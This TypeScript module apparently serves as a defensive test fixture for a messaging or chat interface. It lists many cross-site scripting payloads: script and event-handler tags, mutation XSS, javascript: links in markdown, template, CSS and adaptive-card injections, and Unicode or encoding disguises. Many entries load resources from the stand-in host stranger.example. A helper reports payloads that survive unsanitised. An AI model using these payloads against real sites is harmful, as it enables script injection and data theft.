/** Where payloads would load something from: nobody's, and no request may ever go there. */
export const strangersHost = 'stranger.example';

const load = `https://${strangersHost}/x`;
const call = 'pwned(1)';

/** Elements that run a script by themselves, or when they are touched. */
const elements = [
  `<script>${call}</script>`,
  `<script src="${load}.js"></script>`,
  `"><script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<img src="${load}.png" onload="${call}">`,
  `<img/src=x/onerror=${call}//`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${call}'/>#x"></svg>`,
  `<svg><image href="${load}.svg"></svg>`,
  `<body onload=${call}>`,
  `<body onpageshow=${call}>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="${load}"></iframe>`,
  `<object data="${load}.swf"></object>`,
  `<embed src="${load}">`,
  `<video src=x onerror=${call} autoplay></video>`,
  `<video poster="${load}.jpg"></video>`,
  `<audio src="${load}.mp3" onerror=${call} autoplay></audio>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}></select>`,
  `<textarea autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<marquee onstart=${call}>`,
  `<div onpointerover="${call}" style="position:fixed;inset:0">x</div>`,
  `<a href="javascript:${call}">누르기</a>`,
  `<a href="jAvAsCrIpT&colon;${call}">x</a>`,
  `<a href="data:text/html,<script>${call}</script>">x</a>`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<button formaction="javascript:${call}" form=f>x</button>`,
  `<base href="https://${strangersHost}/">`,
  `<link rel=stylesheet href="${load}.css">`,
  `<link rel=prefetch href="${load}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=${load}">`,
  `<template><script>${call}</script></template>`,
  `<custom-element onanimationend=${call} style="animation:x 1s">`,
];

/** Mutation XSS: harmless when parsed once, not when serialised and parsed again. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${call}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  `<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=${call}>`,
  `<svg><foreignObject><iframe srcdoc="<img src=x onerror=parent.${call}>">`,
  `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  `<select><noembed></select><script>x='<b>a</noembed><img src=x onerror=${call}>'</script>`,
];

/** Markdown that becomes a link, a picture or markup. */
const markdown = [
  `[누르기](javascript:${call})`,
  `[x](JaVaScRiPt:${call})`,
  `[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:${call})`,
  `![x](${load}.png)`,
  `![x](x "onerror=${call}")`,
  `![x](${load}.png"onerror="${call})`,
  `[x]: javascript:${call}\n[x]`,
  `<javascript:${call}>`,
  `[x](<javascript:${call}>)`,
  `# <img src=x onerror=${call}>`,
  `\`\`\`html\n<script>${call}</script>\n\`\`\``,
  `**<svg onload=${call}>**`,
  `[x](x){onclick=${call} style=background:url(${load})}`,
  `<${load}>`,
  `[![x](${load}.png)](javascript:${call})`,
];

/** Things that some template, style or card language would take for its own. */
const languages = [
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `{{${call}}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `\${if(true,'<img src=x onerror=${call}>','')}`,
  `{"type":"AdaptiveCard","version":"1.5","body":[{"type":"Image","url":"${load}.png"}]}`,
  `{"type":"AdaptiveCard","version":"1.5","body":[{"type":"TextBlock","text":"[x](javascript:${call})"}]}`,
  `{"contentType":"text/html","content":"<script>${call}</script>"}`,
  `{"contentType":"application/vnd.microsoft.card.hero","content":{"images":[{"url":"${load}.png"}]}}`,
  `<style>*{background:url(${load}.png)}</style>`,
  `<p style="background-image:url(${load}.png)">x</p>`,
  `<style>@import '${load}.css';</style>`,
  `</style></script><img src=x onerror=${call}>`,
  `expression(${call})`,
  `'-${call}-'`,
  `";${call};//`,
  `'});${call};({'`,
  `__proto__[onerror]=${call}`,
];

/** The same, hidden from whoever looks for letters. */
const disguises = [
  `＜img src=x onerror=${call}＞`,
  `<ſcript>${call}</ſcript>`,
  `<scr\u200bipt>${call}</scr\u200bipt>`,
  `<img src=x onerror\u00a0=${call}>`,
  `<img\u2028src=x\u2029onerror=${call}>`,
  `\u202e>)1(denwp=rorreno x=crs gmi<`,
  `<img src=x onerror=&#112;wned(1)>`,
  `&lt;img src=x onerror=${call}&gt;`,
  `%3Cimg%20src%3Dx%20onerror%3D${call}%3E`,
  `\\u003cimg src=x onerror=${call}\\u003e`,
  `<a href="java\tscript:${call}">x</a>`,
  `<a href="&#x6a;avascript:${call}">x</a>`,
  `<a href="\u0001javascript:${call}">x</a>`,
  `<IMG SRC=x ONERROR=${call}>`,
  `미납요금<img src=x onerror=${call}>얼마예요`,
  `${'미'.normalize('NFD')}<svg onload=${call}>`,
  `<img src=x onerror=${call}`.padEnd(1_500, ' ').concat('>'),
];

/** Every call in them is `pwned(1)`, every address at `strangersHost`. */
export const payloads: readonly string[] = [
  ...elements,
  ...mutations,
  ...markdown,
  ...languages,
  ...disguises,
];

/** Those that are not, letter for letter, among the texts that are shown. */
export function payloadsNotIn(shown: readonly string[], sent: readonly string[] = payloads): string[] {
  const all = asKept(shown.join('\n'));
  return sent.filter((payload) => !all.includes(asKept(payload).slice(0, 60)));
}

/** As the server keeps text: composed, without what nobody sees. */
function asKept(text: string): string {
  return text.normalize('NFC').replace(/[^\p{L}\p{N}<>"'()[\]{}=:;/\\!#$%&*+.,?@^_`|~-]/gu, '');
}
